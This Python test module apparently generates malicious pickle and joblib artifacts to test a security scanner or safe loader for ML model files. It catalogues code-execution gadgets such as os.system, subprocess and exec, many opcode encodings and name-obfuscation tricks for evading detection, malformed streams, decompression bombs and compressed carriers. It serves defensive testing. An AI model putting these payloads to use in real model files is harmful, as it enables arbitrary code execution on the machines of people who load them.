"""Pickles that call what no model calls: every gadget, every way to write the call, every carrier around it."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache

import numpy as np
from sklearn.linear_model import LogisticRegression

from tests.security.artifacts.artifact import Artifact, Target, file_of, several
from tests.security.artifacts.opcodes import (
    PROTO4,
    STOP,
    Raw,
    call,
    memo_global,
    name_global,
    old_call,
    pickled,
    stack_global,
    text,
    value_of,
)

FAMILY = "pickle"
Body = Callable[[Target], bytes]


def gadgets() -> Iterator[tuple[str, Callable[[Target], tuple[object, ...]]]]:
    """Dotted name, and what it is called with."""
    for name in (
        "os.system", "posix.system", "subprocess.getoutput", "os.popen", "commands.getoutput", "pty.spawn",
        "multiprocessing.util.spawnv_passfds", "uuid._get_command_stdout", "distutils.spawn.spawn",
        "numpy.testing._private.utils.runstring", "test.support.script_helper.assert_python_ok",
    ):  # fmt: skip
        yield name, lambda target: (target.shell,)
    for name in ("subprocess.Popen", "subprocess.run", "subprocess.call", "subprocess.check_output"):
        yield name, lambda target: (["/bin/sh", "-c", target.shell],)
    for name in (
        "builtins.exec", "__builtin__.exec", "timeit.timeit", "timeit.Timer", "cProfile.run", "profile.run", "pdb.run",
        "bdb.Bdb.run", "doctest.debug_script", "code.InteractiveInterpreter.runcode", "trace.Trace.run",
        "idlelib.pyshell.ModifiedInterpreter.runcommand", "asyncio.run", "_testcapi.run_in_subinterp", "pip.main",
        "torch.utils._config_module.exec", "torch.jit.unsupported_tensor_ops.execWrapper",
    ):  # fmt: skip
        yield name, lambda target: (target.source,)
    for name in (
        "builtins.eval", "__builtin__.eval", "numpy.f2py.crackfortran.myeval", "pandas.eval", "pandas.core.computation.eval.eval",
        "numpy.ma.core.eval", "sympy.sympify", "logging.config._resolve", "torch.fx.experimental.symbolic_shapes.eval",
        "lib2to3.pgen2.grammar.Grammar.loads", "ast.literal_eval",
    ):  # fmt: skip
        yield name, lambda target: (target.expression,)
    for name in (
        "pickle.loads", "_pickle.loads", "cPickle.loads", "cloudpickle.loads", "dill.loads", "marshal.loads",
        "joblib.externals.cloudpickle.loads", "numpy.core.multiarray.fromstring", "pickle.Unpickler",
    ):  # fmt: skip
        yield name, lambda target: (pickled(call("os", "system", target.shell)),)
    for name in (
        "builtins.open", "io.open", "io.FileIO", "_io.FileIO", "codecs.open", "pathlib.Path.touch", "logging.FileHandler",
        "pathlib.PosixPath.unlink", "shelve.open", "dbm.open", "sqlite3.connect", "os.mkdir", "os.mkfifo", "os.makedirs",
        "distutils.file_util.write_file", "tempfile.NamedTemporaryFile", "zipfile.ZipFile", "tarfile.open", "gzip.open",
        "lzma.open", "bz2.open", "lightgbm.basic.NamedTemporaryFile", "numpy.memmap", "numpy.savetxt", "numpy.fromfile",
        "numpy.load", "numpy.lib._npyio_impl.load", "numpy.lib.npyio.NpzFile", "numpy.lib._datasource.open",
        "numpy.DataSource", "joblib.load", "joblib.numpy_pickle.load", "joblib.numpy_pickle_compat.load_compatibility",
        "joblib.numpy_pickle_compat.NDArrayWrapper", "joblib.Memory", "pandas.read_pickle", "pandas.io.pickle.read_pickle",
        "pandas.read_csv", "pandas.io.common.get_handle", "torch.load", "sklearn.datasets.load_svmlight_file",
        "sklearn.datasets.load_files", "xgboost.core.Booster.load_model", "skops.io.load", "mlflow.pyfunc.load_model",
        "runpy.run_path", "site.addsitedir", "imp.load_source", "zipimport.zipimporter", "ctypes.CDLL", "ctypes.PyDLL",
        "numpy.ctypeslib.load_library", "importlib.machinery.SourceFileLoader", "importlib.import_module",
        "builtins.__import__", "runpy.run_module", "numpy.distutils.exec_command.exec_command",
    ):  # fmt: skip
        yield name, lambda target: (target.marker, "w")
    for name in ("shutil.copyfile", "shutil.move", "os.rename", "os.link", "os.symlink", "os.replace"):
        yield name, lambda target: (target.secret, target.marker)
    for name in ("os.remove", "os.unlink", "shutil.rmtree", "os.truncate", "os.chmod"):
        yield name, lambda target: (target.secret, 0)
    for name in ("socket.create_connection", "multiprocessing.connection.Client", "sklearn.callback._transport.Client"):
        yield name, lambda target: (("127.0.0.1", target.port),)
    for name in ("sklearn.callback._transport.Listener", "socketserver.TCPServer", "xmlrpc.server.SimpleXMLRPCServer"):
        yield name, lambda target: (("127.0.0.1", 0),)
    for name in (
        "urllib.request.urlopen", "urllib.request.urlretrieve", "urllib2.urlopen", "requests.get", "webbrowser.open",
        "pandas.read_html", "sklearn.datasets.fetch_openml", "xgboost.core._load_lib", "httplib.HTTPConnection",
    ):  # fmt: skip
        yield name, lambda target: (f"http://127.0.0.1:{target.port}/",)
    for name in (
        "ftplib.FTP",
        "smtplib.SMTP",
        "telnetlib.Telnet",
        "poplib.POP3",
        "imaplib.IMAP4",
        "http.client.HTTPConnection",
    ):
        yield name, lambda target: ("127.0.0.1", target.port)
    for name in ("os.kill", "os.killpg", "signal.raise_signal", "os._exit", "sys.exit", "os.abort", "posix._exit"):
        yield name, lambda target: (15, 15)
    for name in (
        "functools.reduce", "builtins.map", "builtins.filter", "itertools.starmap", "itertools.imap", "operator.methodcaller",
        "operator.attrgetter", "builtins.getattr", "builtins.setattr", "builtins.vars", "builtins.globals", "builtins.property",
        "types.FunctionType", "types.CodeType", "types.MethodType", "types.ModuleType", "copyreg.add_extension",
        "copyreg.pickle", "builtins.breakpoint", "builtins.input", "sys.settrace", "threading.Thread", "concurrent.futures.ThreadPoolExecutor",
        "xgboost.sklearn.ThreadPoolExecutor", "sklearn.utils.parallel.ThreadpoolController", "xgboost.tracker.RabitTracker",
        "xgboost._data_utils.PyCapsule_GetName", "lightgbm.basic._LIB", "sklearn.externals.array_api_compat.X",
        "sklearn.utils._testing.Temp", "sklearn.tests.test_base.MyEstimator", "cloudpickle.cloudpickle._make_function",
        "dill._dill._create_code", "dill._dill._import_module", "__main__.shout", "nobody.knows.This",
        "asyncio.unix_events._UnixSubprocessTransport._start", "_posixsubprocess.fork_exec", "os.execv", "os.posix_spawn",
        "os.fork", "gc.get_objects", "inspect.getattr_static", "weakref.finalize", "atexit.register", "contextlib.ExitStack",
        "unittest.mock.patch", "ensurepip._run_pip", "venv.create", "multiprocessing.Process", "mmap.mmap", "_ctypes.dlopen",
    ):  # fmt: skip
        yield name, lambda target: (target.marker,)


def ways(target: Target) -> Iterator[tuple[str, bytes]]:
    """Every way to write the same call of ``os.system``."""
    shell = target.shell
    yield "protocol 0", old_call("os", "system", shell) + STOP
    yield "protocol 1", name_global("os", "system") + b"(" + text(shell) + b"tR" + STOP
    for protocol in (2, 3, 4, 5):
        yield f"protocol {protocol}", pickled(call("os", "system", shell, look_up=name_global), protocol)
    yield "protocol 0 with INST", b"(S" + repr(shell).encode() + b"\nios\nsystem\n" + STOP
    yield "OBJ", pickled(b"(" + name_global("os", "system") + text(shell) + b"o", 2)
    yield "NEWOBJ", pickled(stack_global("subprocess", "Popen") + value_of((["/bin/sh", "-c", shell],)) + b"\x81")
    newobj = stack_global("subprocess", "Popen") + value_of(()) + value_of({"args": ["/bin/sh", "-c", shell]}) + b"\x92"
    yield "NEWOBJ_EX", pickled(newobj)
    yield "STACK_GLOBAL from the memo", pickled(memo_global("os", "system") + value_of((shell,)) + b"R")
    yield (
        "texts of MEMOIZE",
        pickled(b"\x8c\x02os\x94\x8c\x06system\x94\x930h\x00h\x01\x93" + value_of((shell,)) + b"R"),
    )
    yield "in frames", PROTO4 + _framed(call("os", "system", shell)) + STOP
    yield (
        "a frame for each opcode",
        PROTO4 + b"".join(map(_framed, (text("os"), text("system"), b"\x93", value_of((shell,)), b"R"))) + STOP,
    )
    body = call("os", "system", shell)
    yield "popped afterwards", pickled(body + b"0" + _harmless())
    yield "behind a mark that is popped", pickled(b"(" + body + b"1" + _harmless())
    yield "as a key", pickled(b"}" + body + b"K\x01s")
    yield "as an item of a set", pickled(b"\x8f(" + body + b"\x90")
    yield "as a state", pickled(name_global("sklearn.linear_model", "LogisticRegression") + b")\x81" + body + b"b")
    yield "as an attribute", pickled(_estimator({"coef_": Raw(body)}))
    yield "in 100 tuples", pickled(body + b"\x85" * 100)
    yield "extension code 1", pickled(b"\x82\x01" + value_of((shell,)) + b"R")
    yield "extension code 2", pickled(b"\x83\x01\x00" + value_of((shell,)) + b"R")
    yield "extension code 4", pickled(b"\x84\x01\x00\x00\x00" + value_of((shell,)) + b"R")
    yield (
        "registers an extension first",
        pickled(call("copyreg", "add_extension", "os", "system", 77) + b"0" + b"\x82\x4d" + value_of((shell,)) + b"R"),
    )
    yield "persistent id", pickled(text(shell) + b"Q")
    yield "persistent id of protocol 0", b"cos\nsystem\nP" + shell.encode() + b"\n" + STOP
    yield (
        "getattr of a module",
        pickled(
            call("builtins", "getattr", Raw(call("builtins", "__import__", "os")), "system") + value_of((shell,)) + b"R"
        ),
    )
    yield (
        "methodcaller on a module",
        pickled(
            call("operator", "methodcaller", "system", shell)
            + value_of((Raw(call("builtins", "__import__", "os")),))
            + b"R"
        ),
    )
    yield (
        "attrgetter on a module",
        pickled(
            call("operator", "attrgetter", "system")
            + value_of((Raw(call("importlib", "import_module", "os")),))
            + b"R"
            + value_of((shell,))
            + b"R"
        ),
    )
    yield (
        "partial that is called",
        pickled(call("functools", "partial", Raw(stack_global("os", "system")), shell) + b")R"),
    )
    yield (
        "partial with another state",
        pickled(
            call("functools", "partial", Raw(stack_global("builtins", "int")))
            + value_of((Raw(stack_global("os", "system")), (shell,), {}, None))
            + b"b)R"
        ),
    )
    yield (
        "reduce over callables",
        pickled(
            call(
                "functools",
                "reduce",
                Raw(stack_global("builtins", "getattr")),
                (Raw(call("builtins", "__import__", "os")), "system"),
            )
            + value_of((shell,))
            + b"R"
        ),
    )
    yield "an attribute of a known module's module", pickled(call("xgboost.core", "ctypes.CDLL", target.marker))
    yield "an attribute of an attribute", pickled(call("sklearn.base", "warnings.sys.modules", shell))
    yield "a method of a known class", pickled(call("lightgbm.basic", "Booster.save_model", target.marker))
    yield "os behind numpy", pickled(call("numpy", "os.system", shell))
    yield "os behind numpy's dtypes", pickled(call("numpy.dtypes", "os.system", shell))
    yield "a module of a known library's tests", pickled(call("sklearn.utils.tests.test_tags", "MyEstimator", shell))
    yield "a name in another alphabet", pickled(call("оs", "system", shell))
    yield "a name with a zero", pickled(call("os\0", "system", shell))
    yield "a name with a line end", pickled(call("os\n", "system", shell))
    yield "a name with spaces", pickled(call(" os", "system ", shell))
    yield "a name that cleans the screen", pickled(call("\x1b[2J\x1b[31mos", "system\x07", shell))
    yield "a name of half a character", pickled(call("os\ud800", "system", shell))
    yield "a very long name", pickled(call("o" * 50_000, "s" * 50_000, shell))
    yield "an empty name", pickled(call("", "", shell))
    yield "a name of dots", pickled(call("..os", ".system", shell))
    yield "a name of a folder", pickled(call("sklearn./../../os", "System", shell))
    yield "Python 2's name of it", pickled(call("__builtin__", "eval", target.expression, look_up=name_global), 2)
    yield "Python 2's module of it", pickled(call("commands", "getoutput", shell, look_up=name_global), 2)
    yield (
        "a class made of it",
        pickled(
            call(
                "builtins",
                "type",
                "Harm",
                (Raw(stack_global("builtins", "object")),),
                {"__reduce__": Raw(stack_global("os", "system"))},
            )
        ),
    )
    yield (
        "a class made of harmless names",
        pickled(
            call(
                "builtins",
                "type",
                "Harm",
                (Raw(name_global("sklearn.linear_model", "LogisticRegression")),),
                {"predict": Raw(name_global("builtins", "dict"))},
            )
        ),
    )
    yield (
        "a class that is changed",
        pickled(
            name_global("sklearn.linear_model", "LogisticRegression")
            + b"N"
            + value_of({"predict": Raw(name_global("builtins", "dict"))})
            + b"\x86b0"
            + _harmless()
        ),
    )
    yield (
        "a reconstructor of it",
        pickled(
            call(
                "copyreg",
                "_reconstructor",
                Raw(stack_global("subprocess", "Popen")),
                Raw(stack_global("builtins", "object")),
                None,
            )
        ),
    )
    yield (
        "a generator's constructor",
        pickled(call("numpy.random._pickle", "__randomstate_ctor", shell, Raw(stack_global("os", "system")))),
    )
    yield "a counter's factory", pickled(call("collections", "defaultdict", Raw(stack_global("os", "system"))))
    nested = pickled(call("os", "system", shell) + b"0" + _harmless())
    yield "a pickle in a pickle", pickled(call("pickle", "loads", nested))
    yield "a pickle in a pickle in a pickle", pickled(call("pickle", "loads", pickled(call("pickle", "loads", nested))))
    yield (
        "a function transformer of it",
        pickled(
            name_global("sklearn.preprocessing", "FunctionTransformer")
            + b")\x81"
            + value_of({"func": Raw(stack_global("os", "system"))})
            + b"b"
        ),
    )
    yield (
        "a function transformer of a partial of it",
        pickled(
            name_global("sklearn.preprocessing", "FunctionTransformer")
            + b")\x81"
            + value_of({"func": Raw(call("functools", "partial", Raw(stack_global("os", "system")), shell))})
            + b"b"
        ),
    )
    yield (
        "a pipeline with it",
        pickled(
            name_global("sklearn.pipeline", "Pipeline")
            + b")\x81"
            + value_of({"steps": [("a", Raw(stack_global("subprocess", "Popen"))), ("b", Raw(_harmless()))]})
            + b"b"
        ),
    )
    yield (
        "a kernel of it",
        pickled(
            name_global("sklearn.svm", "SVC")
            + b")\x81"
            + value_of({"kernel": Raw(stack_global("os", "system"))})
            + b"b"
        ),
    )
    yield (
        "a search that keeps it",
        pickled(
            name_global("sklearn.model_selection", "GridSearchCV")
            + b")\x81"
            + value_of({"scoring": Raw(stack_global("os", "system")), "best_estimator_": Raw(_harmless())})
            + b"b"
        ),
    )
    yield (
        "an objective of it",
        pickled(
            name_global("lightgbm.sklearn", "LGBMClassifier")
            + b")\x81"
            + value_of({"objective": Raw(stack_global("os", "system"))})
            + b"b"
        ),
    )


def disagreements(target: Target) -> Iterator[tuple[str, bytes]]:
    """Streams that two readers understand otherwise."""
    evil = call("os", "system", target.shell)
    good = pickled(_harmless())
    yield "two streams", good + pickled(evil)
    yield "a hundred streams", good * 100 + pickled(evil)
    yield "a stream behind zeros", good + bytes(4096) + pickled(evil)
    yield "text behind the end", good + b"more"
    yield "a zip behind the end", good + _zip_of({"data.pkl": pickled(evil)})
    for cut in (1, 3, 10, 25):
        yield f"cut {cut} bytes before the end", pickled(evil)[:-cut]
    yield "a frame over the end", b"\x80\x04\x95" + (len(evil) + 50).to_bytes(8, "little") + evil + STOP + b"x" * 49
    yield "a frame that is too long", b"\x80\x04\x95" + (1 << 62).to_bytes(8, "little") + evil + STOP
    yield "a frame in a frame", b"\x80\x04" + _framed(_framed(evil)) + STOP
    yield "protocol 255", b"\x80\xff" + evil + STOP
    yield "protocol 5 in the middle of 2", b"\x80\x02\x80\x05" + evil + STOP
    yield "a text that says it is 4 GiB", pickled(b"X\xff\xff\xff\xff" + b"x")
    yield "bytes that say they are 2**63", pickled(b"\x8e" + b"\xff" * 7 + b"\x7f" + b"x")
    yield "a number of a gigabyte", pickled(b"\x8b\x00\x00\x00\x40" + b"1")
    yield "a memo index of four billion", pickled(b"Nr\xff\xff\xff\xff" + evil)
    yield "a key that takes for ever", pickled(b"\x8f(" + b")" + b"q\x01h\x01\x86" * 40 + b"\x90")
    yield "a million marks", pickled(b"(" * 1_000_000)
    yield "a tuple a hundred thousand deep", pickled(b")" + b"\x85" * 100_000 + b"0" + evil)
    yield "out-of-band buffers", pickled(b"\x97" + evil, 5)


def wrappers(target: Target) -> Iterator[tuple[str, bytes]]:
    """Joblib's arrays: bytes of theirs stand between the opcodes, and say themselves how many they are."""
    evil = call("os", "system", target.shell)
    none = Raw(call("builtins", "type", None) + b")R")
    note = name_global("joblib.numpy_pickle", "NumpyArrayWrapper")
    dtype = Raw(call("numpy", "dtype", "u1", False, True) + value_of((3, "|", None, None, None, -1, -1, 0)) + b"b")
    state = {
        "subclass": Raw(name_global("numpy", "ndarray")),
        "shape": (4,),
        "order": "C",
        "dtype": dtype,
        "allow_mmap": False,
    }

    def array(raw: bytes, **more: object) -> bytes:
        return note + b")\x81" + value_of(state | more) + b"b" + raw

    hidden = evil + STOP
    yield (
        "an alignment that only the loader knows is none",
        pickled(
            array(bytes([len(hidden)]) + hidden + b"abcd", numpy_array_alignment_bytes=none, shape=(0,))
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "a dtype of a class",
        pickled(
            array(
                b"N." + b"\0" * 6 + evil,
                dtype=Raw(call("numpy", "dtype", Raw(name_global("numpy", "float64")))),
                shape=(1,),
            )
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "a dtype of a partial",
        pickled(
            array(b"abcd", dtype=Raw(call("functools", "partial", Raw(name_global("numpy", "dtype")), "u1") + b")R"))
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "a note made by a reconstructor",
        pickled(
            call("copyreg", "_reconstructor", Raw(note), Raw(name_global("builtins", "object")), None)
            + value_of(state | {"shape": (1,)})
            + b"b"
            + STOP
            + evil
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "a note made by a partial",
        pickled(
            call("functools", "partial", Raw(note))
            + value_of((Raw(name_global("numpy", "ndarray")), (1,), "C", dtype))
            + b"R"
            + value_of({})
            + b"b"
            + STOP
            + evil
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "a note of a class of its own",
        pickled(
            call("builtins", "type", "Note", (Raw(note),), {})
            + b")\x81"
            + value_of(state | {"shape": (1,)})
            + b"b"
            + STOP
            + evil
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "a note that reads itself otherwise",
        pickled(array(b"abcd", read=Raw(name_global("builtins", "dict"))) + b"0" + _harmless()),
    )
    yield (
        "a note used twice",
        pickled(
            note
            + b")\x81q\x05"
            + value_of(state)
            + b"babcd0h\x05"
            + value_of({"shape": (1,)})
            + b"b"
            + STOP
            + evil
            + b"0"
            + _harmless()
        ),
    )
    shared = value_of(state) + b"q\x07" + b"0" + call("functools", "partial", Raw(name_global("builtins", "int")))
    shared += value_of((Raw(name_global("builtins", "int")), (), {}, Raw(b"h\x07"))) + b"b"
    shared += b"N" + value_of({"shape": (0,)}) + b"\x86b0"
    yield (
        "a state that something else changes",
        pickled(shared + note + b")\x81h\x07b" + STOP + evil + b"0" + _harmless()),
    )
    yield (
        "a class of notes that is changed",
        pickled(
            note
            + b"N"
            + value_of({"read": Raw(name_global("builtins", "dict"))})
            + b"\x86b0"
            + array(b"")
            + b"0"
            + _harmless()
        ),
    )
    yield (
        "objects in an array",
        pickled(array(pickled(evil), dtype=Raw(call("numpy", "dtype", "O8", False, True))) + b"0" + _harmless()),
    )
    yield (
        "objects in an array, framed past their end",
        pickled(
            array(
                b"\x80\x04\x95" + (len(evil) + 2).to_bytes(8, "little") + b"N." + evil,
                dtype=Raw(call("numpy", "dtype", "O8", False, True)),
            )
            + b"0"
            + _harmless()
        ),
    )
    yield "an array of 2**62 numbers", pickled(array(b"", shape=(1 << 30, 1 << 30)) + b"0" + _harmless())
    yield "an array of fewer than no numbers", pickled(array(b"abcd", shape=(-4,)) + b"0" + _harmless())
    yield "an array of a hundred dimensions", pickled(array(b"a", shape=(1,) * 100) + b"0" + _harmless())
    yield "an array whose shape is a call", pickled(array(b"abcd", shape=(Raw(evil),)) + b"0" + _harmless())
    yield (
        "an array of a class",
        pickled(array(b"abcd", subclass=Raw(stack_global("os", "system"))) + b"0" + _harmless()),
    )
    yield "an array that says nothing", pickled(note + b")\x81" + value_of({}) + b"babcd0N")


def carriers(target: Target) -> Iterator[tuple[str, bytes]]:
    """The same call inside of everything that holds pickles."""
    for gadget, arguments in (
        ("os.system", target.shell),
        ("builtins.exec", target.source),
        ("pickle.loads", pickled(call("os", "system", target.shell))),
    ):
        module, _, name = gadget.rpartition(".")
        data = pickled(call(module, name, arguments) + b"0" + _harmless())
        for squeeze in (zlib.compress, gzip.compress, bz2.compress, lzma.compress):
            yield f"{gadget} in {squeeze.__module__}", squeeze(data)
        yield f"{gadget} in lzma alone", lzma.compress(data, lzma.FORMAT_ALONE)
        yield f"{gadget} in zlib in zlib", zlib.compress(zlib.compress(data))
        yield f"{gadget} in half a gzip", gzip.compress(data)[:-9]
        yield f"{gadget} in two gzips", gzip.compress(pickled(_harmless())) + gzip.compress(data)
        yield f"{gadget} in gzip of another sum", gzip.compress(data)[:-8] + b"\0" * 8
        yield f"{gadget} in an array of objects", _npy(data)
        yield f"{gadget} in an npz", _zip_of({"a.npy": _npy(data)})
        yield f"{gadget} in Python 2's joblib", b"ZF0x" + hex(len(data))[2:].ljust(17).encode() + zlib.compress(data)
    yield "a bomb of zeros in gzip", gzip.compress(b"\x80\x04B\xff\xff\xff\x7f" + bytes(64 << 20))
    yield "a bomb of a bomb", zlib.compress(b"\x80\x04C\x01x0" * 4_000_000)


def artifacts() -> Iterator[Artifact]:
    """All of them."""
    for at, (dotted, arguments) in enumerate(gadgets()):
        yield file_of(FAMILY, f"calls {dotted}", _called(dotted, arguments, at))
    yield from several("pickle", ways)
    yield from several("pickle", disagreements)
    yield from several("joblib", wrappers)
    yield from several("joblib", carriers)


def _called(dotted: str, arguments: Callable[[Target], tuple[object, ...]], at: int) -> Body:
    """In a protocol, a way of looking up and a carrier that depend on its place."""
    module, _, name = dotted.rpartition(".")
    if module.rpartition(".")[2][:1].isupper():  # a method: an attribute of an attribute
        module, _, kind = module.rpartition(".")
        name = f"{kind}.{name}"
    look_up = (stack_global, name_global, memo_global)[at % 3]
    squeeze = (bytes, bytes, zlib.compress, bytes, gzip.compress, bz2.compress, lzma.compress)[at % 7]
    return lambda target: squeeze(
        pickled(call(module, name, *arguments(target), look_up=look_up) + b"0" + _harmless(), 4)
    )


def _estimator(state: dict[str, object]) -> bytes:
    return name_global("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81" + value_of(state) + b"b"


@cache
def _harmless() -> bytes:
    """Opcodes of a fitted model: whoever is not stopped by what stands before it gets a model that works."""
    rows = np.random.default_rng(0).normal(size=(40, 3))
    return pickle.dumps(LogisticRegression().fit(rows, rows[:, 0] > 0), 2)[2:-1]


def _framed(body: bytes) -> bytes:
    return b"\x95" + len(body).to_bytes(8, "little") + body


def _npy(data: bytes) -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (53 - len(head) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + data


def _zip_of(files: dict[str, bytes]) -> bytes:
    place = io.BytesIO()
    with zipfile.ZipFile(place, "w") as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return place.getvalue()
